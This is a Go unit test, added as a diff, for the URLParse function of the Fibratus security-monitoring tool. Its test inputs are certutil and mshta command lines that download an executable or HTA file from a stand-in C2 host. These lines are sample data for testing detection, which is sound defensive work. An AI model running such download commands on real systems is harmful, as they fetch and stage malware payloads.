@@ -0,0 +1,82 @@
+/*
+ * Copyright 2021-2022 by Nedim Sabic Sabic
+ * https://www.fibratus.io
+ * All Rights Reserved.
+ *
+ * Licensed under the Apache License, Version 2.0 (the "License");
+ * you may not use this file except in compliance with the License.
+ * You may obtain a copy of the License at
+ *
+ *  http://www.apache.org/licenses/LICENSE-2.0
+ *
+ * Unless required by applicable law or agreed to in writing, software
+ * distributed under the License is distributed on an "AS IS" BASIS,
+ * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+ * See the License for the specific language governing permissions and
+ * limitations under the License.
+ */
+
+package functions
+
+import (
+	"fmt"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+)
+
+func TestURLParse(t *testing.T) {
+	cmdline := `certutil.exe -urlcache -f http://User@C2.Example.com:8080/drop/a.exe?id=1 a.exe`
+
+	var tests = []struct {
+		args     []interface{}
+		expected interface{}
+	}{
+		{
+			[]interface{}{cmdline, "scheme"},
+			"http",
+		},
+		{
+			[]interface{}{cmdline, "host"},
+			"c2.example.com",
+		},
+		{
+			[]interface{}{cmdline, "port"},
+			8080,
+		},
+		{
+			[]interface{}{cmdline, "path"},
+			"/drop/a.exe",
+		},
+		{
+			[]interface{}{cmdline, "query"},
+			"id=1",
+		},
+		{
+			[]interface{}{cmdline, "user"},
+			"User",
+		},
+		{
+			[]interface{}{`mshta.exe https://example.org/x.hta`, "port"},
+			443,
+		},
+		{
+			[]interface{}{`mshta.exe gopher://example.org/x`, "port"},
+			nil,
+		},
+		{
+			[]interface{}{`notepad.exe C:\Windows\win.ini`, "host"},
+			nil,
+		},
+		{
+			[]interface{}{cmdline, "fragment"},
+			nil,
+		},
+	}
+
+	for i, tt := range tests {
+		f := URLParse{}
+		res, _ := f.Call(tt.args)
+		assert.Equal(t, tt.expected, res, fmt.Sprintf("%d. result mismatch: exp=%v got=%v", i, tt.expected, res))
+	}
+}